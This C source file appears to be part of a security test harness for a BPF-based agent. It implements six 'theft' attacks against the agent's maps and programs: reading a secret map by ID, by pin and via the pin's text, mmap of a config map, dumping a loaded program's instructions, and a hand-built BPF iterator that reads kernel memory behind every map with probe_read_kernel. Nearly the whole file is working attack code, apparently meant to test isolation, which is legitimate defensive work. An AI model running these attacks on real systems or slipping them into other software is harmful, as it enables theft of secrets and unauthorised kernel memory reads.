// SPDX-License-Identifier: Apache-2.0
/* Family theft: what the agent keeps in its maps, and its programs, read by somebody else. */
#include "agent.h"

#include <fcntl.h>
#include <sys/mman.h>

#define SCAN_WORDS 128
#define SEQ_BYTES 64

static struct outcome read_secret(int secret, const char *how)
{
	uint64_t key = 1, value = 0;

	if (secret < 0)
		return failed(how);
	if (bpf(BPF_MAP_LOOKUP_ELEM,
		ATTR(.map_fd = secret, .key = address(&key), .value = address(&value))))
		return failed("MAP_LOOKUP_ELEM");
	return value == SECRET ? gained(how) : futile(how);
}

static struct outcome secret_by_id(void)
{
	_cleanup_fd_ int secret = open_id(BPF_MAP_GET_FD_BY_ID, find_map("lab_secret"));

	return read_secret(secret, "MAP_GET_FD_BY_ID");
}

static struct outcome secret_by_pin(void)
{
	_cleanup_fd_ int secret = open_pin(PIN_SECRET);

	return read_secret(secret, "OBJ_GET");
}

/* A map with types shows its content to whoever reads its pin: no bpf(2) at all. */
static struct outcome secret_by_cat(void)
{
	char text[4096], wanted[32];

	snprintf(wanted, sizeof(wanted), "%llu", (unsigned long long)SECRET);
	if (read_file(PIN_SECRET, text, sizeof(text)))
		return failed("open of the pin");
	return strstr(text, wanted) ? gained("read of the pin") : futile("read of the pin");
}

static struct outcome config_by_mmap(void)
{
	_cleanup_fd_ int config = open_pin(PIN_CONFIG);
	volatile uint64_t *values;

	if (config < 0)
		return failed("OBJ_GET");
	values = mmap(NULL, 4096, PROT_READ, MAP_SHARED, config, 0);
	if (values == MAP_FAILED)
		return failed("mmap");
	return values[0] >> 32 == CONFIG_TAG ? gained("mmap") : futile("mmap");
}

static struct outcome program_dump(void)
{
	_cleanup_fd_ int fd = open_id(BPF_PROG_GET_FD_BY_ID, find_program("lab_block"));
	struct bpf_insn code[MAX_INSNS] = {};
	struct bpf_prog_info info = { .xlated_prog_len = sizeof(code),
				      .xlated_prog_insns = address(code) };

	if (fd < 0)
		return failed("PROG_GET_FD_BY_ID");
	if (bpf(BPF_OBJ_GET_INFO_BY_FD, ATTR(.info.bpf_fd = fd, .info.info_len = sizeof(info),
					     .info.info = address(&info))))
		return failed("OBJ_GET_INFO_BY_FD");
	return code[0].code ? gained("OBJ_GET_INFO_BY_FD") : futile("OBJ_GET_INFO_BY_FD");
}

/*
 * A program that walks over all maps and looks into the kernel's memory behind each of them. What
 * it finds goes into a map of the attacker's.
 */
static int load_scan(int found)
{
	struct bpf_insn code[SCAN_WORDS * 8 + 16];
	unsigned int n = 0;

	code[n++] = LOAD(BPF_DW, 6, 1, 8);
	code[n++] = JUMP_EQ(6, 0, SCAN_WORDS * 8);
	for (int i = 0; i < SCAN_WORDS; i++) {
		code[n++] = MOV_REG(1, 10);
		code[n++] = ADD_IMM(1, -8);
		code[n++] = MOV_IMM(2, 8);
		code[n++] = MOV_REG(3, 6);
		code[n++] = ADD_IMM(3, i * 8);
		code[n++] = CALL(BPF_FUNC_probe_read_kernel);
		code[n++] = LOAD(BPF_W, 0, 10, -4);
		/* To the end of the walk, which stores what is in r0. */
		code[n++] = JUMP_EQ(0, CONFIG_TAG, (SCAN_WORDS - 1 - i) * 8 + 2);
	}
	code[n++] = MOV_IMM(0, 0);
	code[n++] = EXIT();
	code[n++] = insn(BPF_LD | BPF_DW | BPF_IMM, 1, BPF_PSEUDO_MAP_VALUE, 0, found);
	code[n++] = insn(0, 0, 0, 0, 0);
	code[n++] = STORE_REG(BPF_W, 1, 0, 0);
	code[n++] = MOV_IMM(0, 0);
	code[n++] = EXIT();
	return load(&(struct program){ .type = BPF_PROG_TYPE_TRACING,
				       .attach_type = BPF_TRACE_ITER, .code = code, .count = n,
				       .attach_btf_id = btf_function("bpf_iter_bpf_map") });
}

static struct outcome config_by_iterator(void)
{
	_cleanup_fd_ int found = make_map(BPF_MAP_TYPE_ARRAY, 4, 8, 1, 0);
	_cleanup_fd_ int program = load_scan(found);
	_cleanup_fd_ int link = -1, iterator = -1;
	char text[SEQ_BYTES];
	uint64_t value = 0;

	if (program < 0)
		return failed("PROG_LOAD of an iterator");
	link = bpf(BPF_LINK_CREATE, ATTR(.link_create = { .prog_fd = program,
							  .attach_type = BPF_TRACE_ITER }));
	if (link < 0)
		return failed("LINK_CREATE");
	iterator = bpf(BPF_ITER_CREATE, ATTR(.iter_create.link_fd = link));
	if (iterator < 0 || read(iterator, text, sizeof(text)) < 0)
		return failed("ITER_CREATE");
	map_get(found, 0, &value);
	return value == CONFIG_TAG ? gained("an iterator over maps") :
				     futile("an iterator over maps");
}

const struct attack theft_attacks[] = {
	{ "secret-by-id", secret_by_id },
	{ "secret-by-pin", secret_by_pin },
	{ "secret-by-cat", secret_by_cat },
	{ "config-by-mmap", config_by_mmap },
	{ "config-by-iterator", config_by_iterator },
	{ "program-dump", program_dump },
	{},
};
